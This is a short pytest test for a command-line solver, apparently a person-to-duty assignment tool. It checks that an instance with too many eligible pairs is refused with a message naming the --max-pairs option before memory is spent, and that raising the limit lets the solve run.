def test_an_instance_too_large_for_one_solve_is_refused_with_the_option_that_raises_the_limit(tmp_path):
    """More eligible pairs than one solve takes: one line with the size, the limit and --max-pairs,
    before any memory is spent on the model (a 50 MB instance once ran 218 s at 4.5 GB)."""
    path = write_json(tmp_path / "inst.json", instance([{"id": f"g{i}"} for i in range(10)]))
    out = tmp_path / "out"
    refused(run("solve", str(path), "-o", str(out), "--max-pairs", "19"),
            "persons: up to 20 eligible (person, duty) pairs; one solve takes at most 19", "--max-pairs")
    assert not out.exists()
    solve_and_check(path, out, "--max-pairs", "20")
